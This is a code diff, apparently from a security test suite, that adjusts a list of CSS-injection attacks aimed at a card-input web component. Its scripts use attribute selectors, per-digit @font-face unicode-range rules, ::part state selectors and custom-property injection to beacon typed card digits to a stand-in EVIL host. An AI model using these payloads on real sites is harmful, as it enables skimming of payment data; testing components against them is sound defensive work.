@@ -2,17 +2,23 @@
 import type { Attack } from '../attack.ts';
 import { hostileMessages } from '../hostile-styles.ts';
 
+/** Every custom property that the element knows. */
+const TOKENS = [
+  'color', 'muted', 'accent', 'error', 'background', 'border-color', 'border-width', 'radius', 'padding', 'height', 'font', 'font-size',
+  'label-size', 'label-weight', 'space', 'gap', 'ring', 'columns',
+];
+
 const wear = `const wear = (text) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(text); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; };`;
 
 export const CSS: readonly Attack[] = [
   {
     id: 'css-attr',
-    what: 'has a rule per pair of digits, by attribute selectors on the element, its parts and everything in it',
+    what: 'has a rule per pair of digits, by attribute selectors on the element and everything in it',
     aim: 'reading',
     control: 'reads',
     script: `${wear}
       wear(PAIRS.map((pair) => '[value*="' + pair + '"] { background-image: url("' + EVIL + '/' + pair + '") }'
-        + ' shoji-card::part(field)[value*="' + pair + '"], shoji-card *[value*="' + pair + '"], shoji-card[value*="' + pair + '"] { border-image-source: url("' + EVIL + '/' + pair + '") }').join(' '));`,
+        + ' shoji-card *[value*="' + pair + '"], shoji-card[value*="' + pair + '"] { border-image-source: url("' + EVIL + '/' + pair + '") }').join(' '));`,
   },
   {
     id: 'css-part',
@@ -20,7 +26,7 @@ export const CSS: readonly Attack[] = [
     aim: 'reading',
     control: 'reads',
     script: `${wear}
-      const parts = ['number', 'input', 'field', 'frame', 'iframe', 'card', 'vault', 'badge', 'error'];
+      const parts = ['number', 'input', 'number input', 'input complete', 'field', 'form', 'placeholder', 'brand', 'frame', 'vault', 'badge', 'error'];
       wear('naive-card::part(number):focus { background-image: url("' + EVIL + '/control") }');
       for (const part of parts) for (const state of [':focus', ':placeholder-shown', ':valid', ':invalid', ':autofill', ':focus-within'])
         try { wear('shoji-card::part(' + part + ')' + state + ' { background-image: url("' + EVIL + '/genuine") }'); } catch { /* no such state here */ }`,
@@ -35,7 +41,7 @@ export const CSS: readonly Attack[] = [
     script: `${wear}
       const text = [];
       for (const digit of '0123456789') text.push('@font-face { font-family: skim; src: url("' + EVIL + '/digit-' + digit + '") format("woff2"); unicode-range: U+003' + digit + ' }');
-      text.push('#control-number, #preview, shoji-card, shoji-card::part(field), shoji-card::part(badge) { font-family: skim, sans-serif !important }');
+      text.push('#control-number, #preview, shoji-card, shoji-card::part(form), shoji-card::part(field), shoji-card::part(input), shoji-card::part(number input), shoji-card::part(badge) { font-family: skim, sans-serif !important }');
       const style = document.createElement('style'); // a constructed sheet loads no fonts in every engine
       style.textContent = text.join('\\n');
       document.head.append(style);`,
@@ -48,7 +54,7 @@ export const CSS: readonly Attack[] = [
     script: `${wear}
       const address = 'url("' + EVIL + '/genuine")';
       wear('naive-card::part(number) { background-image: var(--theme) } naive-card { --theme: url("' + EVIL + '/control") }');
-      wear('shoji-card { ' + ['color-text', 'color-background', 'font', 'background', 'border', 'radius', 'image'].map((name) => '--shoji-' + name + ': ' + address + ';').join(' ')
+      wear('shoji-card { ' + ${JSON.stringify(TOKENS)}.map((name) => '--shoji-' + name + ': ' + address + ';').join(' ')
         + ' font-family: "x); background: ' + "url('" + EVIL + "/genuine')" + '"; quotes: ' + "'}' '*{background:url(" + EVIL + "/genuine)}'" + ' }');
       whenHosts(() => { for (const host of document.querySelectorAll('shoji-card')) for (const property of ['accentColor', 'caretColor', 'colorScheme', 'fontFamily', 'fontVariantNumeric', 'letterSpacing'])
         host.style[property] = property === 'fontFamily' ? '"a\\\\";}*{background:' + address + '}"' : address; });`,
